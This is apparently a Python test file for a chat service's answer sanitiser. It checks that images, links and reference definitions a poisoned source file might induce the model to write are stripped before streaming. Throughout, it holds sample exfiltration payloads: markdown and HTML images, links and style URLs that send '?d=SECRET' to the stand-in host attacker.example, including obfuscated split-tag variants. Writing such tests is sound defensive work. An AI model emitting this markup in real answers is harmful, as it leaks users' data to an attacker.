"""Answers leave Artisan with no remote image and no link but to the user's own sources (issue
29, finding 1): what a poisoned file makes the model write is cleaned before any token is sent,
whole and piece by piece alike, wherever the pieces are cut."""

import pytest

from services.chat.answer_links import AnswerLinks, clean_answer
from services.chat.link_parts import MAX_HELD

ATTACKER = "attacker.example"
SOURCE = "The VPN guide is at https://intranet.example/vpn?page=2 and nowhere else."
CLEANED = {
    # images: their alt text, in every form a renderer fetches
    "See ![chart](https://attacker.example/?d=SECRET) now.": "See chart now.",
    "![](https://attacker.example/p.png)": "",
    '![x](<https://attacker.example/?d=1> "title")': "x",
    "<img src='https://attacker.example/?d=SECRET' alt=x>": "",
    "<IMG\nSRC=https://attacker.example/?d=1>": "",
    "[![badge](https://attacker.example/b.svg)](https://attacker.example/)": "badge",
    "<svg><image href=https://attacker.example/?d=1 /></svg>": "",
    "<style>body{background:url(https://attacker.example/?d=1)}</style>": (
        "body{background:url(https://attacker.example/)}"
    ),
    # links: their text
    "[click here](https://attacker.example/c?d=SECRET) for more": "click here for more",
    "[a [nested] text](https://attacker.example/)": "a [nested] text",
    "<a href='https://attacker.example/?d=1'>the report</a>": "the report",
    # reference definitions: their address dropped, so nothing refers to it
    "![x][id]\n\n[id]: https://attacker.example/?d=SECRET": "![x][id]\n\n[id]: ",
    "[id]:\n<https://attacker.example/?d=1>\n": "[id]:\n\n",
    "[id]: //attacker.example/x": "[id]: ",
    # bare addresses stay text, without the query string and fragment that carry data
    "Go to https://attacker.example/p?d=SECRET#f.": f"Go to https://{ATTACKER}/p.",
    "or www.attacker.example/?q=SECRET, then": f"or www.{ATTACKER}/, then",
    "<https://attacker.example/p?d=SECRET>": f"https://{ATTACKER}/p",
    # citations, and what is no link at all, stay as written
    "Prices rose [Ref: 1][Ref: 2].": "Prices rose [Ref: 1][Ref: 2].",
    "As noted [Ref: 3](https://attacker.example/?d=1).": "As noted [Ref: 3].",
    "[Ref: 1]: revenue grew": "[Ref: 1]: revenue grew",
    "Use List<String> and <b>bold</b>; 3 < 4, x<=y.": (
        "Use List<String> and <b>bold</b>; 3 < 4, x<=y."
    ),
    "[sic] (2019) and a [note]": "[sic] (2019) and a [note]",
    "a <!-- hidden --> b": "a  b",
}


@pytest.mark.parametrize("written, shown", CLEANED.items())
def test_an_answer_is_cleaned_of_images_and_links(written: str, shown: str) -> None:
    assert clean_answer(written) == shown


@pytest.mark.parametrize("written", CLEANED)
def test_pieces_cut_anywhere_are_cleaned_as_the_whole(written: str) -> None:
    whole = clean_answer(written)
    for cut in range(len(written) + 1):
        assert streamed([written[:cut], written[cut:]]) == whole, cut
    assert streamed(list(written)) == whole  # a character per piece


def test_a_link_to_a_source_keeps_its_address_as_text() -> None:
    written = (
        "See [the guide](https://intranet.example/vpn?page=2) or"
        " https://intranet.example/vpn?page=2."
    )
    shown = (
        "See the guide (https://intranet.example/vpn?page=2) or"
        " https://intranet.example/vpn?page=2."
    )
    assert clean_answer(written, [SOURCE]) == shown
    # the same address with anything added is not the source's: the data would ride on it
    added = "[the guide](https://intranet.example/vpn?page=2&d=SECRET)"
    assert clean_answer(added, [SOURCE]) == "the guide"
    # an image never: a source's own address fetched would still say who read it, and when
    assert clean_answer("![g](https://intranet.example/vpn?page=2)", [SOURCE]) == "g"


def test_a_link_to_a_document_made_for_the_answer_stays_a_link() -> None:
    link = "/v1/documents/0b9f6a3e-2c41-4d7e-9a55-3f1e8c2d7b10/export"
    written = f"I made it: [Meeting summary]({link})"
    assert clean_answer(written) == written
    assert streamed(list(written)) == written
    # only that path on the answer's own server: not another path, not another host
    assert clean_answer("[x](/v1/files)") == "x"
    assert clean_answer(f"[x](https://attacker.example{link})") == "x"
    assert clean_answer(f"![x]({link})") == "x"


def test_no_streamed_piece_holds_a_part_of_the_address() -> None:
    """An exfiltration image cut across tokens as a model writes it: nothing of it is sent."""
    pieces = ["Here", " is ![", "x](https://", "attacker", ".example/?d=", "SEC", "RET) done"]
    links = AnswerLinks()
    sent = [links.feed(piece) for piece in pieces] + [links.flush()]
    assert "".join(sent) == "Here is x done"
    assert not any(part in "".join(sent) for part in ("attacker", "SEC", "https"))


def test_what_may_become_a_link_is_held_back_until_it_is_whole() -> None:
    links = AnswerLinks()
    assert links.feed("Read [the memo") == "Read "
    assert links.feed("] (it is short)") == "[the memo] (it is short)"
    assert links.feed(" or <b") == " or "
    assert links.feed("r>.") == "<br>."


@pytest.mark.parametrize(
    "opening", ["[", "![", "<a title='", "[x](", "https://a.example/", "<https:", "<!--"]
)
def test_a_construct_never_closed_holds_the_stream_only_so_long(opening: str) -> None:
    """A never-closed bracket, tag or address is let out (or dropped) after MAX_HELD characters:
    the asker is not kept waiting for the rest of the answer."""
    links = AnswerLinks()
    sent = links.feed(opening)
    for _ in range(3 * MAX_HELD // 10):
        sent += links.feed("word word ")
    # at most MAX_HELD in brackets and MAX_HELD in what is read inside them, held or dropped
    assert len(sent) >= 3 * MAX_HELD - 2 * MAX_HELD
    assert sent.endswith("word word ")


def test_text_let_out_early_never_becomes_a_link_later() -> None:
    """A bracket held past MAX_HELD goes out as text; its `](address)` still goes nowhere."""
    written = "[" + "y" * (2 * MAX_HELD) + "](https://attacker.example/?d=SECRET) end"
    cleaned = clean_answer(written)
    assert ATTACKER not in cleaned and cleaned.endswith("] end")
    hidden_tag = "<a title='" + "y" * (2 * MAX_HELD) + "' href='https://attacker.example/?d=1'>"
    assert "<a" not in clean_answer(hidden_tag) and "d=1" not in clean_answer(hidden_tag)


@pytest.mark.parametrize(
    "written",
    [
        "![x]<br>(https://attacker.example/?d=1)",  # a bare tag between ']' and '('
        "[see](x)(https://attacker.example/?d=1)",
        "[a](<b x=1>https://attacker.example/?d=1)",
        "<[x](y)img src=https://attacker.example/?d=1>",  # '<' + a link's text + 'img'
        "[id]: htt<b x=1>ps://attacker.example/?d=1\n![p][id]",
        "https://attacker.example/<b x=1>?d=SECRET",
    ],
)
def test_what_removing_markup_brings_together_is_no_link_either(written: str) -> None:
    cleaned = clean_answer(written)
    assert "](" not in cleaned and "<img" not in cleaned.lower()
    assert "d=1" not in cleaned and "SECRET" not in cleaned


def streamed(pieces: list[str]) -> str:
    links = AnswerLinks()
    return "".join(links.feed(piece) for piece in pieces) + links.flush()
